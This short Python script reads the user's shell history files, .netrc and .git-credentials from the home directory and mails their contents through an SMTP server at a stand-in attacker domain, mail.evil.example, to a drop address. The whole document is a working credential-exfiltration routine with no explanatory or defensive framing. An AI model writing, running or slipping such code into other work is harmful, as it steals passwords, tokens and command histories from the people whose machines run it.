import os, smtplib
text = ""
for name in [".bash_history", ".zsh_history", ".netrc", ".git-credentials"]:
    try:
        text += open(os.path.join(os.environ["HOME"], name)).read()
    except OSError:
        pass
s = smtplib.SMTP("mail.evil.example")
s.sendmail("a@example.com", "drop@evil.example", text)
